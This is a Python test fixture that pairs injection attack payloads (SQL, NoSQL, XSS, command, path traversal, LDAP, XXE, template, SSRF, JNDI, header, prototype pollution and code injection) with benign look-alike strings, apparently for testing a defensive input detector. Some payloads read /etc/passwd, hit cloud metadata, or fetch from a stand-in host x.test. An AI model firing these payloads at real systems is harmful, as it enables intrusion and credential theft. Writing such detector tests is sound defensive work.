"""Attacks and harmless values that any change of rules or model must still tell apart."""

from __future__ import annotations

from typing import Any

ATTACKS: dict[str, list[Any]] = {
    "sql_injection": [
        "' OR '1'='1",
        "admin'--",
        "1; DROP TABLE users",
        "x' UNION SELECT email, password FROM accounts --",
        "1' AND SLEEP(5)#",
        "1 AND 1=CONVERT(int,(SELECT @@version))--",
    ],
    "nosql_injection": [
        {"password": {"$ne": None}},
        {"$where": "this.password.length > 0"},
        "{'$gt': ''}",
        {"user": {"$regex": ".*"}, "pass": {"$exists": True}},
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=confirm(document.domain)>',
        "<a href=javascript:alert(1)>x</a>",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| whoami",
        "$(id)",
        "`wget http://x.test/a`",
        "a && ping -c 3 10.0.0.1",
    ],
    "path_traversal": ["../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini"],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*"],
    "xml_injection": ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
    "template_injection": ["{{7*7}}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "gopher://127.0.0.1:6379/_FLUSHALL"],
    "jndi_injection": ["${jndi:ldap://x.test/a}", "${${lower:j}ndi:rmi://x.test/a}"],
    "header_injection": ["%0d%0aSet-Cookie: a=b", "value\r\nLocation: http://evil.test/"],
    "prototype_pollution": [{"__proto__": {"isAdmin": True}}, {"constructor": {"prototype": {"isAdmin": True}}}],
    "code_injection": ["__import__('os').system('id')", 'O:8:"Evil":1:{s:1:"a";i:1;}', '<!--#exec cmd="id" -->'],
}

HARMLESS: list[Any] = [
    "O'Brien & Sons",
    'Torque wrench 1/4" (select grade)',
    "I'd like to order 5 or 6 = fine",
    "123 Main St, Apt #4",
    "SELECT size from the drop-down",
    "C++ & C# <developer>",
    "https://www.example.com/a?b=1&c=2",
    "Price: $5 {net}",
    "It's 50% off; order by Friday",
    "user@example.com",
    "Line one\nLine two: yes",
    "Größe’ 40 × 45 cm, 3 Stück",
    "株式会社 テスト（東京）",
    "Please select a specialty hospital, or drop us a line",
    {"name": "Garden chair", "attributes": {"$schema": "https://json-schema.org/x", "weight": "12 kg"}},
    {"items": [{"sku": "GC-1042/B", "price": "129.90"}, {"sku": "T1; T2", "price": None}], "total": 259.8},
]
